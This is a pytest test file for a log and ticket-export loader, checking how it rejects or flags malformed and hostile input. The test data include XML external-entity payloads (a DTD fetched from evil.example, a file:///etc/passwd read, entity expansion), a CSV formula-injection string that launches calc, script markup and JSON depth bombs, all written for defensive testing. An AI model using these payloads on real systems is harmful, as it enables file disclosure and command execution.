"""Text that is not what it seems: each bad line is a reject with its place, or the file is refused with a sentence."""

from __future__ import annotations

import json
import time
from pathlib import Path  # noqa: TC003 - pytest reads the annotations of fixtures
from typing import Any

import pytest
from refused import refused

import handoff_analytics as ha
from handoff_analytics.errors import HandoffError, MappingError, UnknownFormatError, UnreadableFileError

HEADER = "number,short_description,state,assignment_group,opened_at,sys_updated_on"
ROW = "INC%d,%s,New,Network,2026-01-05 10:%02d:00,2026-01-05 11:00:00"
LOG = {"time": "2026-01-05T10:00:00Z", "level": "info", "msg": "fine"}


def load(folder: Path, content: str | bytes, **options: Any) -> tuple[ha.History, dict[str, Any]]:
    path = folder / "export"
    path.write_bytes(content.encode() if isinstance(content, str) else content)
    options.setdefault("timezone", "UTC")
    history = ha.load(path, quiet=True, on_reject="keep", **options)
    row = history.loads.row(0, named=True)
    assert row["seen"] == row["loaded"] + row["rejected"] + row["duplicate"] + row["skipped"]
    return history, row


def rejects(history: ha.History) -> list[tuple[Any, ...]]:
    return history.rejects.select("line", "code").rows()


def tickets(*texts: str, end: str = "\n") -> str:
    return end.join([HEADER, *(ROW % (n, text, n % 60) for n, text in enumerate(texts))]) + end


@pytest.mark.parametrize(
    ("encoding", "recorded"),
    [
        ("utf-8", "utf-8"),
        ("utf-8-sig", "utf-8"),
        ("utf-16", "utf-16"),
        ("utf-16-le", "utf-16-le"),
        ("cp1252", "cp1252"),
    ],
)
def test_encodings_are_found_and_recorded(tmp_path: Path, encoding: str, recorded: str) -> None:
    history, row = load(tmp_path, tickets("Störung – früh", "Größe", "naïve €").encode(encoding))
    assert row["loaded"] == 3
    assert row["encoding"].replace("_", "-").replace("utf-8-sig", "utf-8") == recorded
    assert "Störung – früh" in history.sql("SELECT title FROM tickets")["title"].to_list()


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "utf-16-be", "utf-32"])
def test_json_in_wide_encodings_is_read(tmp_path: Path, encoding: str) -> None:
    text = "\n".join(json.dumps(LOG | {"msg": f"größe {n}"}, ensure_ascii=False) for n in range(5)) + "\n"
    history, row = load(tmp_path, text.encode(encoding))
    assert row["loaded"] == 5
    assert "größe 3" in history.sql("SELECT body FROM log_records")["body"].to_list()


def test_a_line_in_another_encoding_is_rejected_with_its_bytes(tmp_path: Path) -> None:
    lines = [json.dumps(LOG | {"n": n}).encode() for n in range(200)]
    lines[150] = b'{"time": "2026-01-05T10:00:00Z", "level": "info", "msg": "caf\xe9"}'
    history, row = load(tmp_path, b"\n".join(lines) + b"\n")
    assert (row["loaded"], rejects(history)) == (199, [(151, "ENCODING")])
    assert "caf\\xe9" in history.rejects["raw"].item()
    table = tickets(*["x"] * 200).encode().splitlines()
    table[150] = table[150].replace(b",x,", b",caf\xe9,")
    history, row = load(tmp_path, b"\n".join(table))
    assert rejects(history) == [(151, "ENCODING")]


@pytest.mark.parametrize(
    "content",
    [
        tickets("a", "b").replace(",", ";"),
        "sep=;\n" + tickets("a", "b").replace(",", ";"),
        tickets("a", "b").replace(",", "\t"),
        tickets("a", "b").replace(",", "|"),
        tickets("a", "b", end="\r\n"),
        tickets("a", "b", end="\r"),
        tickets("a", "b").replace("\n", "\r\n", 1),
        tickets("a", '"b, or\nc; d"'),
    ],
)
def test_dialects_are_decided_without_guessing_at_values(tmp_path: Path, content: str) -> None:
    history, row = load(tmp_path, content)
    assert (row["format"], row["loaded"], row["rejected"]) == ("servicenow", 2, 0)
    assert history.sql("SELECT ticket_id, team FROM tickets ORDER BY 1").rows() == [
        ("INC0", "Network"),
        ("INC1", "Network"),
    ]


def test_a_mapping_for_another_delimiter_names_the_header_seen(tmp_path: Path) -> None:
    said = {
        "mapping": {"format": 1, "name": "x", "target": "tickets", "reader": "csv", "csv": {"delimiter": ","}},
        "column": {"ticket_id": {"from": "number", "required": True}},
    }
    path = tmp_path / "export.csv"
    path.write_text(tickets("a").replace(",", ";"))
    refused(path, MappingError, "no column for ticket_id.*number;short_description", mapping=said)


def test_a_decimal_comma_is_read_as_told(tmp_path: Path) -> None:
    column = {"from": "cost", "type": "float", "decimal": ",", "thousands": "."}
    said = {
        "mapping": {"format": 1, "name": "x", "target": "outcomes", "reader": "csv"},
        "column": {"check_name": {"from": "number"}, "amount": column},
    }
    history, _ = load(tmp_path, "number;cost\nA;1.234,5\nB;0,5\n", mapping=said)
    assert history.sql("SELECT amount FROM outcomes ORDER BY 1")["amount"].to_list() == [0.5, 1234.5]


def test_rows_of_another_width_are_rejected_never_shifted(tmp_path: Path) -> None:
    table = tickets("a", "b, with a comma", "c").splitlines()
    table.insert(2, "INC7,too short")
    table.append(ROW % (9, "only empty more", 9) + ",,")
    history, row = load(tmp_path, "\n".join(table))
    assert rejects(history) == [(3, "COLUMNS"), (4, "COLUMNS")]
    assert history.rejects["reason"].to_list() == ["2 fields, the header has 6", "7 fields, the header has 6"]
    assert row["loaded"] == 3
    assert history.sql("SELECT DISTINCT team FROM tickets")["team"].to_list() == ["Network"]


def test_a_quote_that_never_closes_is_refused_by_its_opening_line(tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    path.write_text(tickets("a", '"never closed', "c", "d"))
    refused(path, UnreadableFileError, "line 3: a quote is opened here and never closed", timezone="UTC")


def test_bytes_of_value_zero_are_taken_out_and_flagged(tmp_path: Path) -> None:
    history, row = load(tmp_path, tickets("a\0b", "c"))
    assert row["loaded"] == 2
    assert "ab" in history.sql("SELECT title FROM tickets")["title"].to_list()
    assert any("nul" in flag for flag in history.quality["flag"])


GOOD = json.dumps(LOG)


@pytest.mark.parametrize(
    ("line", "code"),
    [
        ('{"time": "2026-01-05T10:00:00Z", "msg": "half', "SYNTAX"),
        ('{"time": "2026-01-05T10:00:00Z" "msg": 1}', "SYNTAX"),
        ("{'time': 1}", "SYNTAX"),
        ("17", "SYNTAX"),
        ('"text"', "SYNTAX"),
        ("null", "SYNTAX"),
        ("{" * 5000, "DEPTH"),
        ('{"a":' * 5000 + "1" + "}" * 5000, "DEPTH"),
        ('{"msg": ' + "[" * 101 + "]" * 101 + "}", "DEPTH"),
    ],
)
def test_a_bad_line_of_json_is_rejected_with_its_place(tmp_path: Path, line: str, code: str) -> None:
    content = "\n".join([GOOD, GOOD.replace("fine", "2"), "", line, GOOD.replace("fine", "3")]) + "\n"
    history, row = load(tmp_path, content)
    assert row["loaded"] == 3
    assert row["format"] == "json_lines"
    (reject,) = history.rejects.iter_rows(named=True)
    assert reject["line"] == 4
    assert reject["byte_offset"] == content.index(line, 60)
    assert reject["code"] == code


def test_depth_that_is_allowed_loads(tmp_path: Path) -> None:
    content = GOOD + "\n" + '{"time": "2026-01-05T10:00:01Z", "msg": "deep", "a": ' + "[" * 98 + "]" * 98 + "}\n"
    assert load(tmp_path, content)[1]["loaded"] == 2


@pytest.mark.parametrize("bomb", [b"[" * 200_000, b'{"a":' * 200_000, b"[" * 100_000 + b"]" * 100_000])
def test_a_depth_bomb_that_is_the_file_is_refused_quickly(tmp_path: Path, bomb: bytes) -> None:
    path = tmp_path / "bomb.json"
    path.write_bytes(bomb)
    begun = time.perf_counter()
    refused(path, UnknownFormatError, "Cannot recognise .*bomb.json")
    assert time.perf_counter() - begun < 20


@pytest.mark.parametrize("name", ["otlp", "json_lines", "n8n", "jaeger", "zipkin", "temporal", "jira_rest", "ocel"])
def test_a_depth_bomb_is_one_reject_for_every_reader(tmp_path: Path, name: str) -> None:
    path = tmp_path / "bomb.json"
    path.write_bytes(b'{"data": ' + b"[" * 100_000 + b"]" * 100_000 + b"}")
    begun = time.perf_counter()
    try:
        history = ha.load(path, format=name, quiet=True, on_reject="keep")
    except UnknownFormatError:
        pytest.fail(f"{name} is no format")
    except HandoffError:
        pass
    else:
        assert history.loads.select("loaded", "rejected").row(0) == (0, 1)
        assert history.rejects["code"].item() == "DEPTH"
    assert time.perf_counter() - begun < 30


def test_the_last_of_two_keys_wins_and_is_flagged(tmp_path: Path) -> None:
    history, row = load(tmp_path, '{"time": "2026-01-05T10:00:00Z", "level": "info", "msg": "first", "msg": "last"}\n')
    assert row["loaded"] == 1
    assert history.sql("SELECT body FROM log_records").item() == "last"
    assert history.quality["flag"].to_list() == ["duplicate_key"]


@pytest.mark.parametrize("number", ["NaN", "Infinity", "-Infinity", "1e400", "-1e400"])
def test_numbers_that_are_none_are_null_and_flagged(tmp_path: Path, number: str) -> None:
    history, row = load(
        tmp_path, f'{{"time": "2026-01-05T10:00:00Z", "level": "info", "msg": "x", "took": {number}, "n": 1}}\n'
    )
    assert row["loaded"] == 1
    assert history.quality["flag"].to_list() == ["range"]
    assert history.sql("SELECT attributes->>'took' AS took FROM log_records").item() is None


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ("12345678901234567890123", "12345678901234567890123"),
        ("9223372036854775807", "9223372036854775807"),
        ("7253394974479.0", "7253394974479"),
    ],
)
def test_long_numbers_and_ids_keep_their_digits(tmp_path: Path, written: str, kept: str) -> None:
    history, row = load(
        tmp_path, f'{{"time": "2026-01-05T10:00:00Z", "level": "info", "msg": "x", "order_id": {written}}}\n'
    )
    assert row["loaded"] == 1
    assert history.sql("SELECT correlation_id FROM log_records").item() == kept


@pytest.mark.parametrize("escaped", ["\\ud800", "\\udc00x", "a\\u0000b"])
def test_halves_of_characters_and_zeros_are_replaced_and_flagged(tmp_path: Path, escaped: str) -> None:
    history, row = load(tmp_path, f'{{"time": "2026-01-05T10:00:00Z", "level": "info", "msg": "{escaped}"}}\n')
    assert row["loaded"] == 1
    body = history.sql("SELECT body FROM log_records").item()
    assert "\0" not in body
    body.encode()
    assert history.quality["flag"].item() in {"replaced_character", "nul_removed"}


@pytest.mark.parametrize(
    "document",
    [
        '<!DOCTYPE log [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><log><trace>&b;</trace></log>',
        '<!DOCTYPE log SYSTEM "http://evil.example/x.dtd"><log><trace/></log>',
        '<!DOCTYPE log [<!ENTITY f SYSTEM "file:///etc/passwd">]><log><trace><string key="concept:name" value="&f;"/></trace></log>',
    ],
)
def test_a_document_type_is_refused(tmp_path: Path, document: str) -> None:
    path = tmp_path / "log.xes"
    path.write_text('<?xml version="1.0"?>\n' + document)
    refused(path, HandoffError, "DOCTYPE|document type")


def test_formulas_and_markup_are_kept_as_they_are(tmp_path: Path) -> None:
    texts = ["=cmd|'/c calc'!A1", "+1+1", "-2", "@SUM(A1)", "<script>alert(1)</script>"]
    history, row = load(tmp_path, tickets(*texts))
    assert row["loaded"] == 5
    assert sorted(history.sql("SELECT title FROM tickets")["title"]) == sorted(texts)
    # What a spreadsheet would run is flagged; a number with a sign is none.
    assert history.quality.filter(flag="csv_formula_text")["doubtful"].to_list() == [3]


def test_a_head_that_is_cut_in_a_multibyte_character_is_utf8(tmp_path: Path) -> None:
    # 256 KiB are looked at: they end in the middle of a character.
    for shift in range(3):
        text = tickets("x" * shift + "€" * 100_000, "ü")
        history, row = load(tmp_path, text)
        assert (row["encoding"], row["loaded"]) == ("utf-8", 2)
        assert history.sql("SELECT title FROM tickets ORDER BY ticket_id DESC LIMIT 1").item() == "ü"
